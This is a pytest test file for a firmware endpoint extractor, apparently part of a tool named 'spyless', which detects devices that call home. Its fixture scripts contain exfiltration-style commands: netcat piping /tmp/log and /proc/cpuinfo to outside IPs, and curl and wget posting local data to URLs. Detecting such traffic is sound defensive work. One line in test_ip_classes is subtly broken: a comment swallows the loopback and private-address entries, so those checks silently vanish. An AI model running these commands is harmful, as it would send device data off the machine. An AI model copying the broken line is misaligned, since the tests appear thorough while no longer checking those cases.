"""Unit tests of endpoint extraction: inputs built in code, exact expected occurrences."""

from __future__ import annotations

from pathlib import Path

import pytest

from spyless.analyzers.endpoints.analyzer import Endpoints
from spyless.analyzers.endpoints.extract import Occurrence, extract
from spyless.analyzers.endpoints.validate import check_ipv4, check_ipv6, ip_class
from spyless.model.facts import Endpoint
from spyless.unpack.interface import ArtifactKind
from tests.analyzers_helpers import scan_tree

ELF = b"\x7fELF\x01\x01\x01" + b"\x00" * 57


def _values(found: list[Occurrence], minimum: str = "medium") -> set[tuple[str, str]]:
    ranks = {"low": 0, "medium": 1, "high": 2}
    return {(o.kind, o.value) for o in found if ranks[o.confidence] >= ranks[minimum]}


def _binary(*strings: bytes) -> bytes:
    return ELF + b"\x00".join(strings) + b"\x00" * 8


def test_script_commands_and_contexts() -> None:
    script = (b"#!/bin/sh\n"
              b"ntpclient -s -h pool.ntp.org\n"
              b"syslogd -R logs.vendor.com:514\n"
              b"curl -s -d @/tmp/x https://api.vendor.com/v1/report?id=1\n"
              b"nc 203.0.113.7 4444 < /tmp/log\n"
              b"# wget http://old.vendor.com/fw.bin\n")
    found = extract(script, "/usr/sbin/report.sh", ArtifactKind.SCRIPT)
    by_value = {o.value: o for o in found}
    assert set(by_value) == {"pool.ntp.org", "logs.vendor.com", "https://api.vendor.com/v1/report?id=1",
                             "203.0.113.7", "http://old.vendor.com/fw.bin"}
    assert by_value["pool.ntp.org"].site.command == "ntpclient -h"
    assert by_value["pool.ntp.org"].category == "ntp"
    assert by_value["logs.vendor.com"].site.command == "syslogd -R"
    assert by_value["logs.vendor.com"].category == "syslog"
    assert by_value["https://api.vendor.com/v1/report?id=1"].site.command == "curl"
    assert by_value["https://api.vendor.com/v1/report?id=1"].line == 4
    assert by_value["203.0.113.7"].ip_class == "documentation"
    assert by_value["203.0.113.7"].confidence == "low"
    old = by_value["http://old.vendor.com/fw.bin"]
    assert old.site.commented
    assert old.confidence == "medium"
    assert not old.operative


def test_config_keys_uci_and_assignments() -> None:
    uci = (b"config cwmp 'acs'\n\toption url 'http://acs.isp.net:7547/cwmp'\n\n"
           b"config system\n\tlist server 'time.example.org'\n")
    found = extract(uci, "/etc/config/cwmp", ArtifactKind.TEXT)
    assert [(o.value, o.site.key, o.category) for o in found] == [
        ("http://acs.isp.net:7547/cwmp", "cwmp.url", "tr069"),
        ("time.example.org", "system.server", None),
    ]
    env = b"ACS_URL=https://acs.operator.de/\nnameserver 8.8.8.8\ntrap2sink 198.51.100.9 public\n"
    found = extract(env, "/etc/default.cfg", ArtifactKind.TEXT)
    assert [(o.value, o.site.key, o.category, o.confidence) for o in found] == [
        ("https://acs.operator.de/", "ACS_URL", "tr069", "high"),
        ("8.8.8.8", "nameserver", "dns", "high"),
        ("198.51.100.9", "trap2sink", None, "low"),  # documentation range: not a destination
    ]


def test_binary_strings_ascii_and_utf16() -> None:
    data = _binary(b"members.dyndns.org", b"GET http://%s/%s?%s HTTP/1.0",
                   b"support@vendor.com.cn", b"66.243.43.2",
                   "https://cloud.vendor.io/agent".encode("utf-16-le"))
    found = extract(data, "/usr/bin/agent", ArtifactKind.ELF)
    assert _values(found) == {("domain", "members.dyndns.org"), ("email", "support@vendor.com.cn"),
                              ("ipv4", "66.243.43.2"), ("url", "https://cloud.vendor.io/agent")}
    wide = next(o for o in found if o.kind == "url")
    assert data[wide.offset:wide.offset + 4] == b"h\x00t\x00"
    dyn = next(o for o in found if o.value == "members.dyndns.org")
    assert dyn.offset == len(ELF)
    assert dyn.category == "ddns"
    assert dyn.site.describe() == "binary string"


@pytest.mark.parametrize("string", [
    b"libc.so.6", b"/lib/libcrypto.so", b"libfoo.so", b"busybox.conf", b"/var/run/udhcpd.pid",
    b"setup.py", b"obj.id", b"window.top", b"struct.field", b".data.rel.ro", b"%d.%d.%d.%d",
    b"1.3.6.1.4.1.2021", b"version 1.2.3.4", b"v2.6.31.0", b"1.0.0.19", b"256.1.1.1",
    b"010.001.002.003", b"std::string", b"12:30:45", b"00:11:22:33:44:55", b"%s@%s",
    b"root@localhost", b"http://%s:%d/", b"http://$SERVER/update",
    b"auth-agent@openssh.com", b"curve25519-sha256@libssh.org", b"e.g.", b"i.e.",
    b"a.b", b"x.in", b"%u.in-addr.arpa",
])
def test_lookalikes_are_not_confident_endpoints(string: bytes) -> None:
    for kind, path, data in ((ArtifactKind.ELF, "/bin/x", _binary(string)),
                             (ArtifactKind.TEXT, "/etc/x.conf", string + b"\n")):
        assert _values(extract(data, path, kind)) == set(), (string, kind)


def test_ip_classes() -> None:
    expected = {"0.0.0.0": "unspecified",  # noqa: S104 - an address under test, no socket "127.0.0.1": "loopback", "10.1.2.3": "private",
                "169.254.1.1": "link-local", "224.0.0.251": "multicast",
                "192.0.2.1": "documentation", "255.255.255.0": "netmask",
                "255.255.255.255": "broadcast", "100.64.0.1": "shared", "240.0.0.1": "reserved",
                "8.8.8.8": "public"}
    assert {ip: check_ipv4(ip) for ip in expected} == {ip: (ip, c) for ip, c in expected.items()}
    assert check_ipv6("2001:4860:4860::8888") == ("2001:4860:4860::8888", "public")
    assert check_ipv6("fe80::1") == ("fe80::1", "link-local")
    assert check_ipv6("2001:db8::1") == ("2001:db8::1", "documentation")
    assert check_ipv6("d::") is None
    import ipaddress
    assert ip_class(ipaddress.ip_address("::1")) == "loopback"


def test_xml_namespaces_and_placeholders_are_low() -> None:
    data = _binary(b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">',
                   b"<presentationURL>http://255.255.255.255:65535</presentationURL>")
    found = extract(data, "/usr/bin/upnpd", ArtifactKind.ELF)
    assert {(o.value, o.confidence) for o in found if o.kind == "url"} == {
        ("http://schemas.xmlsoap.org/soap/envelope/", "low"),
        ("http://255.255.255.255:65535", "low")}


def test_malformed_input_never_raises() -> None:
    junk = bytes(range(256)) * 64 + b"a." * 5000 + b"@" * 3000 + b"::" * 3000 + b"1.1.1." * 2000
    for kind in (ArtifactKind.ELF, ArtifactKind.TEXT, ArtifactKind.DATA):
        extract(junk, "/x", kind)
    extract(b"", "/x", ArtifactKind.TEXT)
    extract(b"http://", "/x", ArtifactKind.TEXT)
    extract("é.com ü@ü.de".encode(), "/x", ArtifactKind.TEXT)


def _endpoints(tmp_path: Path, files: dict[str, bytes | str]) -> dict[str, Endpoint]:
    report = scan_tree(tmp_path, files, file_analyzers=[], image_analyzers=[Endpoints()])
    assert not report.errors
    return {e.value: e for e in report.endpoints}


def test_fold_one_fact_per_value_with_every_location(tmp_path: Path) -> None:
    url = "http://collect.vendor-cloud.com/up"
    report = scan_tree(tmp_path, {
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": "#!/bin/sh\n/usr/sbin/report.sh &\n",
        "/usr/sbin/report.sh": f"#!/bin/sh\nwget -q -O- --post-data x {url}\n",
        "/etc/config/telemetry": f"config telemetry\n\toption url '{url}'\n",
        "/usr/bin/agent": _binary(url.encode()),
        "/www/help.htm": f"<a href=\"{url}\">x</a>\n",
    }, file_analyzers=[], image_analyzers=[Endpoints()])
    [endpoint] = [e for e in report.endpoints if e.value == url]
    assert sorted(loc.path or "" for loc in endpoint.locations) == [
        "/etc/config/telemetry", "/usr/bin/agent", "/usr/sbin/report.sh", "/www/help.htm"]
    assert endpoint.used_at_boot
    assert endpoint.category == "telemetry"
    assert endpoint.scheme == "http"
    assert endpoint.host == "collect.vendor-cloud.com"
    assert "command wget" in endpoint.context
    assert "boot: run from /etc/init.d/rcS" in endpoint.context
    ids = sorted(f.id for f in report.findings)
    assert ids == ["SPY501", "SPY502", "SPY504"]
    call_home = next(f for f in report.findings if f.id == "SPY502")
    assert call_home.location.path == "/usr/sbin/report.sh"
    assert call_home.location.line == 2


def test_cron_and_public_ip_findings(tmp_path: Path) -> None:
    report = scan_tree(tmp_path, {
        "/etc/crontabs/root": "*/5 * * * * /usr/bin/ping.sh\n",
        "/usr/bin/ping.sh": "#!/bin/sh\nnc 45.33.32.156 9000 < /proc/cpuinfo\n",
        "/usr/bin/daemon": _binary(b"45.33.32.156", b"8.8.8.8", b"192.168.1.1"),
        "/www/doc.js": "// see 93.184.216.34\n",
    }, file_analyzers=[], image_analyzers=[Endpoints()])
    by_value = {e.value: e for e in report.endpoints}
    assert by_value["45.33.32.156"].used_at_boot
    assert by_value["45.33.32.156"].ip_class == "public"
    assert by_value["8.8.8.8"].category == "dns"
    assert by_value["192.168.1.1"].confidence == "low"
    assert by_value["93.184.216.34"].confidence == "low"  # commented out, documentation
    found = {(f.id, f.severity.value) for f in report.findings}
    assert found == {("SPY502", "medium"), ("SPY503", "medium"), ("SPY504", "info")}
    public = next(f for f in report.findings if f.id == "SPY503")
    assert "45.33.32.156" in public.message
    assert "8.8.8.8" not in public.message


def test_documentation_and_web_pages_raise_no_findings(tmp_path: Path) -> None:
    report = scan_tree(tmp_path, {
        "/www/help/ddns.htm": "<p>Sign up at http://www.noip.com or members.dyndns.org</p>\n",
        "/usr/share/doc/pkg/README": "Report bugs to bugs@vendor.com, see ftp://ftp.vendor.com\n",
        "/etc/example.conf": "# acs_url=http://acs.example.net/\n",
    }, file_analyzers=[], image_analyzers=[Endpoints()])
    assert {e.value for e in report.endpoints} == {
        "http://www.noip.com", "members.dyndns.org", "bugs@vendor.com", "ftp://ftp.vendor.com",
        "http://acs.example.net/"}
    assert report.findings == []
